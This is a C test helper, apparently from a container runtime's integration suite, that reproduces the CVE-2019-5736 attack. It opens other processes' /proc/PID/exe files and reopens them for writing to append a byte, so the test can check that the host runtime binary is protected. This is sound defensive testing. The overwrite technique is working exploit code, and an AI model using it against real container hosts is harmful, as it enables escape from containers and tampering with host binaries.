/* The CVE-2019-5736 attack, as a container's root would run it; built
 * static by tests/integration/test_binary_protection.py and run inside a
 * container.
 *
 *   exe-attacker SECONDS STOPFILE
 *
 * Until SECONDS pass or STOPFILE exists it scans /proc and, for every other
 * process it has not got yet, opens /proc/PID/exe with O_PATH (which needs
 * ptrace access to PID) and keeps the fd.  Over and over it then tries to
 * reopen each kept fd for writing through /proc/self/fd/N: that fails with
 * ETXTBSY while the program runs and succeeds once it has exited, unless the
 * file is protected.  A successful reopen appends one byte.  Prints, one per
 * line:
 *   seen PID COMM            a process other than itself (from /proc/PID/comm)
 *   held PID DEV INO         /proc/PID/exe opened with O_PATH
 *   wrote PID DEV INO        the file behind it reopened for writing, 1 byte
 *                            appended
 *   summary seen=N held=N wrote=N
 * The test compares DEV/INO with the runtime binary's. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 4096

struct target
{
  int pid;
  int fd; /* O_PATH on its exe, -1 if not (yet) */
  int wrote;
};

static struct target targets[MAX_PIDS];
static int n_targets, n_held, n_wrote;

static struct target *
find_or_add (int pid, int *added)
{
  int i;
  *added = 0;
  for (i = 0; i < n_targets; i++)
    if (targets[i].pid == pid)
      return &targets[i];
  if (n_targets == MAX_PIDS)
    return NULL;
  targets[n_targets] = (struct target){ .pid = pid, .fd = -1 };
  *added = 1;
  return &targets[n_targets++];
}

static void
print_comm (int pid)
{
  char path[64], comm[64] = "?";
  FILE *f;
  snprintf (path, sizeof (path), "/proc/%d/comm", pid);
  f = fopen (path, "re");
  if (f)
    {
      if (fgets (comm, sizeof (comm), f))
        comm[strcspn (comm, "\n")] = 0;
      fclose (f);
    }
  printf ("seen %d %s\n", pid, comm);
}

static void
scan (int self)
{
  DIR *d = opendir ("/proc");
  struct dirent *de;
  if (d == NULL)
    return;
  while ((de = readdir (d)))
    {
      char path[64];
      struct target *t;
      struct stat st;
      int pid = atoi (de->d_name), added;
      if (pid <= 0 || pid == self || n_held > 900)
        continue;
      t = find_or_add (pid, &added);
      if (t == NULL)
        continue;
      if (added)
        print_comm (pid);
      if (t->fd >= 0)
        continue;
      snprintf (path, sizeof (path), "/proc/%d/exe", pid);
      t->fd = open (path, O_PATH | O_CLOEXEC);
      if (t->fd >= 0 && fstat (t->fd, &st) == 0)
        {
          n_held++;
          printf ("held %d %lu %lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        }
    }
  closedir (d);
}

static void
try_writes (void)
{
  int i;
  for (i = 0; i < n_targets; i++)
    {
      char path[64];
      struct stat st;
      int w;
      if (targets[i].fd < 0 || targets[i].wrote)
        continue;
      snprintf (path, sizeof (path), "/proc/self/fd/%d", targets[i].fd);
      w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0)
        continue;
      targets[i].wrote = 1;
      n_wrote++;
      fstat (w, &st);
      if (write (w, "X", 1) != 1)
        perror ("write");
      printf ("wrote %d %lu %lu\n", targets[i].pid, (unsigned long)st.st_dev,
              (unsigned long)st.st_ino);
      close (w);
    }
}

int
main (int argc, char **argv)
{
  struct timespec now, end;
  int self = getpid ();

  if (argc != 3)
    {
      fprintf (stderr, "usage: exe-attacker SECONDS STOPFILE\n");
      return 2;
    }
  setvbuf (stdout, NULL, _IOLBF, 0);
  clock_gettime (CLOCK_MONOTONIC, &end);
  end.tv_sec += atoi (argv[1]);
  printf ("ready\n");
  for (;;)
    {
      scan (self);
      try_writes ();
      clock_gettime (CLOCK_MONOTONIC, &now);
      if (now.tv_sec > end.tv_sec || access (argv[2], F_OK) == 0)
        break;
    }
  /* the last runtime processes may have exited just now */
  try_writes ();
  printf ("summary seen=%d held=%d wrote=%d\n", n_targets, n_held, n_wrote);
  return 0;
}
